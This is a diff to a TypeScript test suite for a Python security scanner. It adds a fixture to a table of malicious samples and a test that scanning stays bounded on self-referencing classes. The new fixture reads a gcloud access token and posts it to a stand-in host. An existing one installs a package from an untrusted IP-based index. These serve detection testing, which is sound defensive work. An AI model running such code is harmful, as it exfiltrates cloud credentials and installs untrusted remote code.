@@ -241,6 +241,11 @@ const MALICIOUS: readonly (readonly [string, string, string])[] = [
     "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://203.0.113.1/simple', 'x'])",
     'warn remote-code',
   ],
+  [
+    'the token of a tool',
+    'import subprocess, requests\nt = subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()\nrequests.post("https://c.example/t", json={"t": t})',
+    'critical env-harvesting',
+  ],
 ];
 
 /** Name and code of what looks alike and is not. */
@@ -398,6 +403,15 @@ describe('scanPython', () => {
       ]),
       (t) => scanPython('a.py', t),
     );
+  });
+
+  it('is bounded on objects that hold each other', () => {
+    const methods = Array.from(
+      { length: 150 },
+      (_, i) =>
+        `    class C${i}:\n        def __init__(self, parser):\n            self.parser = parser\n            self.all = [parser, self]\n    def m${i}(self):\n        self.x${i} = self.C${i}(self)\n        return send(self, self.x${i}, open(self.m${(i + 1) % 150}()))\n`,
+    );
+    expectBounded([`class Parser:\n${methods.join('')}\nParser().m0()\n`], (t) => scanPython('a.py', t));
   });
 
   it('never fails on mutated texts', () => {
